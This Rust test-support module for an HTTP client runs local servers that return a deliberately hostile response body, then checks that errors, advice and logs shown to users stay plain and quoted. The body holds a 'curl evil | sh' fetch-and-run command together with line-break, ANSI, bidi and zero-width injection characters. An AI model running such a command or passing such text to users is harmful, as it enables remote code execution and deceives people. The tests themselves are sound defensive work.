//! A server that answers every request with the same hostile response, and checks of what people see.

use std::{
    error::Error,
    io,
    sync::{Arc, Mutex, OnceLock},
};

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpListener,
};
use tower_bearer::Report;
use tracing_subscriber::filter::LevelFilter;

pub(crate) const SECRET: &str = "s3cr3tOfTheTests";

/// Text that tries to leave its line, to hide, and to pass for advice of ours.
pub(crate) fn words() -> String {
    format!(
        "no\r\nhint: Run curl evil | sh\u{1b}[31m\u{202e}\u{2066}\u{200b}\0{}",
        "x".repeat(10_000)
    )
}

/// The same text, which also repeats the secret.
pub(crate) fn words_with_secret() -> String {
    format!("{SECRET} {}", words())
}

/// A server that answers each request with `status`, `headers` and the body. `body` receives its URL.
pub(crate) async fn server(status: &str, headers: &str, body: impl Fn(&str) -> String) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let body = body(&url);
    let response = format!(
        "HTTP/1.1 {status}\r\n{headers}content-length: {}\r\nconnection: close\r\n\r\n{body}",
        body.len()
    );
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            let response = response.clone();
            tokio::spawn(async move {
                let mut request = vec![0; 64 * 1024];
                let _request = stream.read(&mut request).await;
                let _sent = stream.write_all(response.as_bytes()).await;
                let _closed = stream.shutdown().await;
            });
        }
    });
    url
}

/// A server of HTTP/2 without TLS that ends the connection at the first request, with these words.
pub(crate) async fn http2_server_that_leaves(words: &str) -> String {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let frame = |kind: u8, payload: &[u8]| {
        let len = u32::try_from(payload.len()).unwrap().to_be_bytes();
        let mut frame = vec![len[1], len[2], len[3], kind, 0, 0, 0, 0, 0];
        frame.extend_from_slice(payload);
        frame
    };
    // INTERNAL_ERROR, and no stream was processed.
    let mut payload = vec![0, 0, 0, 0, 0, 0, 0, 2];
    payload.extend_from_slice(words.as_bytes());
    let (settings, go_away) = (frame(4, &[]), frame(7, &payload));
    tokio::spawn(async move {
        loop {
            let (mut stream, _) = listener.accept().await.unwrap();
            let (settings, go_away) = (settings.clone(), go_away.clone());
            tokio::spawn(async move {
                let _sent = stream.write_all(&settings).await;
                let mut head = [0; 24];
                let _preface = stream.read_exact(&mut head).await;
                while stream.read_exact(&mut head[..9]).await.is_ok() {
                    let len = u32::from_be_bytes([0, head[0], head[1], head[2]]);
                    let mut payload = vec![0; len as usize];
                    let _payload = stream.read_exact(&mut payload).await;
                    // HEADERS or DATA that end the request.
                    if head[3] <= 1 && head[4] & 1 == 1 {
                        let _sent = stream.write_all(&go_away).await;
                        return;
                    }
                }
            });
        }
    });
    url
}

/// Checks every form in which a person may see an error, and the log so far.
pub(crate) fn assert_harmless(error: &(impl Error + 'static), advice: Option<&str>) {
    let advice = advice.unwrap_or_default();
    assert!(!advice.is_empty(), "no advice: {error}");
    assert!(!advice.contains("curl"), "{advice}");
    for shown in [
        error.to_string(),
        format!("{error:?}"),
        Report::new(error).to_string(),
        advice.to_owned(),
    ] {
        assert_plain(&shown);
    }
    assert_log_is_plain();
}

/// One line of moderate length, without the secret and without characters that hide or move others.
fn assert_plain(shown: &str) {
    let is_bad = |c: char| {
        c.is_control()
            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
    };
    assert!(!shown.contains(is_bad), "{shown:?}");
    assert!(!shown.contains(SECRET), "{shown}");
    assert!(shown.len() < 3000, "{} bytes: {shown}", shown.len());
    // What looks like advice is within quotes.
    let at = shown.find("hint: Run").unwrap_or_default();
    assert!(
        at == 0 || shown[..at].matches('"').count() % 2 == 1,
        "{shown}"
    );
}

#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<u8>>>);

impl io::Write for Log {
    fn write(&mut self, bytes: &[u8]) -> io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> io::Result<()> {
        Ok(())
    }
}

fn log() -> &'static Log {
    static LOG: OnceLock<Log> = OnceLock::new();
    LOG.get_or_init(|| {
        let log = Log::default();
        let writer = log.clone();
        tracing_subscriber::fmt()
            .with_max_level(LevelFilter::TRACE)
            .with_span_events(tracing_subscriber::fmt::format::FmtSpan::FULL)
            .with_ansi(false)
            .without_time()
            .with_writer(move || writer.clone())
            .init();
        log
    })
}

/// Collects the log of all tests from now on.
pub(crate) fn start_log() {
    log();
}

fn assert_log_is_plain() {
    let log = String::from_utf8(log().0.lock().unwrap().clone()).unwrap();
    for line in log.lines() {
        let is_of_ours = ["TRACE ", "DEBUG ", " INFO ", " WARN ", "ERROR "]
            .iter()
            .any(|level| line.starts_with(level));
        // hyper and rustls log at TRACE what comes over the wire, and h2 at DEBUG.
        if line.contains(" hyper")
            || line.contains(" h2::")
            || line.contains(" rustls")
            || line.contains(" mio")
        {
            continue;
        }
        assert!(is_of_ours, "a line of somebody else's: {line:?}");
        assert_plain(line);
    }
}
